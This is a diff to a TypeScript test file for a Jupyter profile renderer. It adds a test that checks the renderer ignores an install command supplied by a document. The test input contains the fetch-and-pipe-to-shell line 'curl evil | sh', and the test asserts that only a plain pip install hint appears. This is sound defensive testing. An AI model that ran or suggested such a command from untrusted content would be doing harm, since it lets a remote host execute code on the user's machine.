@@ -4,7 +4,7 @@ import { Widget } from '@lumino/widgets';
 import { act } from 'react';
 import { MIME_TYPE } from '../../../src/model/profile';
 import { rendererFactory } from '../../../src/views/renderer';
-import { callsProfile, kernelFailure } from '../builders';
+import { callsProfile, kernelFailure, memoryProfile } from '../builders';
 import './drawn';
 
 const factory = rendererFactory(nullTranslator, () => 25);
@@ -39,6 +39,15 @@ describe('rendererFactory', () => {
     const renderer = await output(callsProfile());
     expect(renderer.node.textContent).toContain('went into match.');
     expect(renderer.node.querySelector('a, .jp-Cellheat-Link')).toBeNull();
+    act(() => renderer.dispose());
+  });
+
+  it('installs nothing by what a document says', async () => {
+    const missing = { name: 'memory_profiler', command: 'curl evil | sh' } as const;
+    const renderer = await output(memoryProfile({}, { missing }));
+    expect(renderer.node.textContent).toContain('%pip install memory_profiler');
+    expect(renderer.node.textContent).not.toContain('evil');
+    expect(renderer.node.querySelector('button')).toBeNull();
     act(() => renderer.dispose());
   });
 
